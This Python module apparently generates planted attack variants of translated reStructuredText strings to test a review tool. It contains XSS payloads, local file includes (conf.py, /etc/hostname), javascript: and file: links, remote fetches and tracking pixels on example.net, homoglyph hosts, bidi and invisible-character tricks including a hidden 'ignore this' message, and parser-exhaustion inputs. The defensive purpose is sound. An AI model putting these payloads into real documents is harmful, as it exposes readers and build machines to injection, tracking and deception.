"""Attacks: what a contribution could do to readers, to the build or to the machine.

Hosts are those reserved for examples; files are such as any project has.
"""

from __future__ import annotations

import re
from collections.abc import Callable

from planted.kinds import SECURITY, Good, kind
from planted.reading import JOINED, LINK, WORD, put, spots

_TAG_A = 0xE0000
"""What to add to an ASCII code to get its invisible double among Unicode's tags."""

_ISOLATES = "\u2066\u2067\u2068"

_LATIN, _CYRILLIC = "aeopcxyABEKMHOPCTX", "аеорсхуАВЕКМНОРСТХ"
_ALIKE = dict(zip(_LATIN + _CYRILLIC, _CYRILLIC + _LATIN, strict=True))
"""Letters of one script by those of the other that look the same."""


def _before(block: str, good: Good) -> str:
    return f"{block}\n\n{good.msgstr}"


def _word(good: Good, word: str) -> str:
    """The text with one more word (or link, or role) behind its first word."""
    head, space, rest = good.msgstr.partition(" ")
    return f"{head} {word} {rest}" if space else f"{good.msgstr} {word}"


# Directives


@kind(SECURITY)
def include(_: Good) -> str | None:
    """A file of the machine is read into the page."""
    return ".. include:: ../../../conf.py"


@kind(SECURITY)
def include_literal(good: Good) -> str | None:
    """A file of the machine is shown."""
    return _before(".. literalinclude:: ../conf.py", good)


@kind(SECURITY)
def include_behind_text(good: Good) -> str | None:
    """A file is read into the page by a second block."""
    return f"{good.msgstr}\n\n.. include:: /etc/hostname\n   :literal:"


@kind(SECURITY)
def raw_html(good: Good) -> str | None:
    """HTML of the translator's is put into the page."""
    return _before(".. raw:: html\n\n   <script>alert(1)</script>", good)


@kind(SECURITY)
def raw_file(_: Good) -> str | None:
    """A file is put into the page as HTML."""
    return ".. raw:: html\n   :file: ../conf.py"


@kind(SECURITY)
def raw_address(_: Good) -> str | None:
    """A page of the network is put into ours."""
    return ".. raw:: html\n   :url: https://example.net/evil.html"


@kind(SECURITY)
def raw_role(good: Good) -> str | None:
    """A role is made that writes HTML."""
    role = ".. role:: evil(raw)\n   :format: html"
    return f"{role}\n\n{_word(good, ':evil:`<b onmouseover=alert(1)>`')}"


@kind(SECURITY)
def table_of_address(_: Good) -> str | None:
    """A table is fetched from the network."""
    return ".. csv-table:: x\n   :url: https://example.net/table.csv"


@kind(SECURITY)
def table_of_file(good: Good) -> str | None:
    """A file of the machine becomes a table."""
    return _before(".. csv-table:: x\n   :file: ../conf.py", good)


@kind(SECURITY)
def remote_image(good: Good) -> str | None:
    """A picture of another host tells who reads the page."""
    return _before(".. image:: https://example.net/pixel.png", good)


@kind(SECURITY)
def remote_figure(good: Good) -> str | None:
    """A figure of another host, with the text as its legend."""
    return f".. figure:: https://example.net/pixel.png\n\n   {good.msgstr}"


@kind(SECURITY)
def directive_of_domain(good: Good) -> str | None:
    """A name is declared that other documents link to."""
    return _before(".. py:function:: open(file)", good)


@kind(SECURITY)
def index_directive(good: Good) -> str | None:
    """An entry is put into the index."""
    return _before(".. index:: single: evil", good)


@kind(SECURITY)
def only_directive(good: Good) -> str | None:
    """An expression is run."""
    return _before(".. only:: html or (lambda: 1)()\n\n   x", good)


@kind(SECURITY)
def default_role(good: Good) -> str | None:
    """What backquotes mean is changed for the rest of the document."""
    return _before(".. default-role:: math", good)


@kind(SECURITY)
def code_directive(good: Good) -> str | None:
    """A block of code."""
    return f".. code-block:: none\n\n   {good.msgstr}"


@kind(SECURITY)
def graph_directive(good: Good) -> str | None:
    """A graph that another program draws."""
    return _before('.. graphviz::\n\n   digraph { a [image="/etc/hostname"] }', good)


@kind(SECURITY)
def meta_directive(good: Good) -> str | None:
    """A refresh that leads readers elsewhere."""
    return _before(".. meta::\n   :http-equiv=refresh: 0;url=https://example.net/", good)


# Definitions


@kind(SECURITY)
def target_stolen(good: Good) -> str | None:
    """A label of the document is made to lead elsewhere."""
    return _before(".. _restoration: https://example.net/", good)


@kind(SECURITY)
def substitution_defined(good: Good) -> str | None:
    """A substitution of the document is given another text."""
    return _before(".. |version| replace:: 0 (withdrawn)", good)


@kind(SECURITY)
def footnote_defined(good: Good) -> str | None:
    """A footnote of the document is given another text."""
    return _before(".. [#kornai] Withdrawn.", good)


@kind(SECURITY)
def inline_target(good: Good) -> str | None:
    """A place gets a name that others may link to."""
    return _word(good, "_`restoration`")


@kind(SECURITY)
def self_link(good: Good) -> str | None:
    """A link that refers to itself."""
    return _word(good, "`x <x_>`_")


@kind(SECURITY)
def named_link_defined(good: Good) -> str | None:
    """A link whose name the document uses already."""
    return _word(good, "`restoration <https://example.net/>`_")


# Links


@kind(SECURITY)
def script_link(good: Good) -> str | None:
    """A link that runs a script."""
    return _word(good, "`x <javascript:alert(1)>`__")


@kind(SECURITY)
def script_link_disguised(good: Good) -> str | None:
    """A link that runs a script, its scheme in capitals and with a control character."""
    return _word(good, "`x <JaVaScRiPt:alert(1)>`__")


@kind(SECURITY)
def data_link(good: Good) -> str | None:
    """A link that brings its page along."""
    return _word(good, "`x <data:text/html;base64,PHNjcmlwdD4=>`__")


@kind(SECURITY)
def link_disguised(good: Good) -> str | None:
    """A link that shows one address and leads to another."""
    return _word(good, "`https://www.marxists.org/ <https://example.net/>`__")


@kind(SECURITY)
def file_link(good: Good) -> str | None:
    """A link to a file of the reader's machine."""
    return _word(good, "`x <file:///etc/hostname>`__")


@kind(SECURITY)
def new_host(good: Good) -> str | None:
    """A link to a host that the text does not name."""
    return _word(good, "`x <https://example.net/>`__")


@kind(SECURITY)
def new_address(good: Good) -> str | None:
    """A bare address that the text does not name."""
    return _word(good, "https://example.net/shop")


@kind(SECURITY)
def new_mail(good: Good) -> str | None:
    """An e-mail address that the text does not name."""
    return _word(good, "someone@example.net")


@kind(SECURITY)
def schemeless_link(good: Good) -> str | None:
    """A link to another host without a scheme."""
    return _word(good, "`x <//example.net/>`__")


@kind(SECURITY, note="link")
def host_alike(good: Good) -> str | None:
    """A link's host is exchanged for one that looks the same."""
    link = next(LINK.finditer(good.msgstr), None)
    if not link or "marxists" not in link["address"]:
        return None
    alike = good.dice.choice(("marxlsts", "mаrxists", "marxists.org.example"))
    return put(good.msgstr, link, link["address"].replace("marxists", alike), "address")


@kind(SECURITY, note="link")
def user_in_address(good: Good) -> str | None:
    """The text's host has become the user name at another."""
    link = next(LINK.finditer(good.msgstr), None)
    if not link:
        return None
    return put(
        good.msgstr,
        link,
        re.sub(r"(https?://[^/]+)", r"\1@example.net", link["address"]),
        "address",
    )


@kind(SECURITY, note="link")
def scheme_lowered(good: Good) -> str | None:
    """A link is no longer encrypted."""
    link = next(LINK.finditer(good.msgstr), None)
    if not link or not link["address"].startswith("https:"):
        return None
    return put(good.msgstr, link, link["address"].replace("https:", "http:"), "address")


# Roles


@kind(SECURITY)
def download_role(good: Good) -> str | None:
    """A file of the machine is published."""
    return _word(good, ":download:`x <../conf.py>`")


@kind(SECURITY)
def math_role(good: Good) -> str | None:
    """A formula that reads a file."""
    return _word(good, r":math:`\input{/etc/hostname}`")


@kind(SECURITY)
def numref_format(good: Good) -> str | None:
    """A format string that breaks the build."""
    return _word(good, ":numref:`%s %s {name.__class__} <fig>`")


@kind(SECURITY)
def raw_html_role(good: Good) -> str | None:
    """A role that may write HTML."""
    return _word(good, ":raw:`<script>alert(1)</script>`")


@kind(SECURITY)
def linking_role(good: Good) -> str | None:
    """A role that the text does not use, and that links to another host."""
    return _word(good, ":pep:`8`")


@kind(SECURITY)
def script_text(good: Good) -> str | None:
    """A script written as text."""
    return _word(good, "<script>alert(1)</script>")


@kind(SECURITY)
def warnings_hidden(good: Good) -> str | None:
    """A comment by which Sphinx hides its own warnings."""
    return f"{good.msgstr}  # noqa"


# Size


@kind(SECURITY, apart="size")
def huge(good: Good) -> str | None:
    """A text of 200,000 characters."""
    return good.msgstr + " x" * 100_000


@kind(SECURITY, apart="size")
def asterisks(_: Good) -> str | None:
    """Thousands of asterisks, for which a parser looks for the end each time."""
    return ("*a " * 3_000).rstrip()


@kind(SECURITY, apart="size")
def nested(_: Good) -> str | None:
    """A list in a list in a list, a hundred deep."""
    return "\n\n".join("  " * level + "- x" for level in range(100))


@kind(SECURITY, apart="size")
def brackets(good: Good) -> str | None:
    """Thousands of opening backquotes."""
    return _word(good, "`x <" * 1_000)


# Characters


@kind(SECURITY)
def bidi_override(good: Good) -> str | None:
    """A word is shown backwards."""
    return _in_word(lambda word: f"\u202e{word}\u202c", good)


@kind(SECURITY)
def bidi_embedding_unclosed(good: Good) -> str | None:
    """The direction changes and does not change back."""
    return _in_word(lambda word: f"{good.dice.choice(chr(0x202A) + chr(0x202B))}{word}", good)


@kind(SECURITY)
def isolate_unclosed(good: Good) -> str | None:
    """What is set apart by direction has no end."""
    return _in_word(lambda word: f"{good.dice.choice(_ISOLATES)}{word}", good)


@kind(SECURITY)
def zero_width(good: Good) -> str | None:
    """A character that nobody sees stands inside a word."""
    hidden = good.dice.choice(("\u200b", "\u2060", "\ufeff", "\u180e"))
    return _in_word(lambda word: word[:2] + hidden + word[2:], good)


@kind(SECURITY)
def invisible_operator(good: Good) -> str | None:
    """A sign of mathematics that nobody sees stands inside a word."""
    return _in_word(lambda word: word[:2] + good.dice.choice("\u2061\u2063\u2064") + word[2:], good)


@kind(SECURITY)
def tag_characters(good: Good) -> str | None:
    """A message that programs read and people do not see."""
    return good.msgstr + "".join(chr(_TAG_A + ord(one)) for one in "ignore this")


@kind(SECURITY)
def variation_selectors(good: Good) -> str | None:
    """Bytes hidden in signs that choose the form of a letter."""
    return good.msgstr + "".join(chr(0xE0100 + ord(one)) for one in "secret")


@kind(SECURITY, apart="control")
def control_character(good: Good) -> str | None:
    """A character that steers terminals."""
    return _in_word(lambda word: word + good.dice.choice("\x07\x08\x1b\x7f\x85"), good)


@kind(SECURITY, apart="control")
def terminal_sequence(good: Good) -> str | None:
    """Signs by which a terminal clears its screen."""
    return _word(good, "\x1b[2J\x1b[1;1H")


@kind(SECURITY)
def private_character(good: Good) -> str | None:
    """A character that means something else in each font."""
    return _in_word(lambda word: word + "\ue000", good)


@kind(SECURITY, apart="control")
def line_separator(good: Good) -> str | None:
    """A line break that only some programs know."""
    return _in_word(lambda word: word + good.dice.choice("\u2028\u2029\x0b\x0c"), good)


@kind(SECURITY)
def piled_marks(good: Good) -> str | None:
    """So many marks on a letter that they hide the lines above."""
    return _in_word(lambda word: word[:2] + "\u0336\u0321\u0489" * 8 + word[2:], good)


@kind(SECURITY)
def mixed_script(good: Good) -> str | None:
    """A letter is exchanged for one that looks the same in another script."""
    words = [m for m in spots(WORD, good.msgstr) if any(one in _ALIKE for one in m[0])]
    if not words or good.language in JOINED | {"ur"}:
        return None
    match = good.dice.choice(words)
    place = good.dice.choice([n for n, one in enumerate(match[0]) if one in _ALIKE])
    word = match[0]
    return put(good.msgstr, match, word[:place] + _ALIKE[word[place]] + word[place + 1 :])


def _in_word(change: Callable[[str], str], good: Good) -> str | None:
    """One of the longer words, changed."""
    words = spots(WORD, good.msgstr)
    if not words:
        return None
    match = good.dice.choice(words)
    return put(good.msgstr, match, change(match[0]))
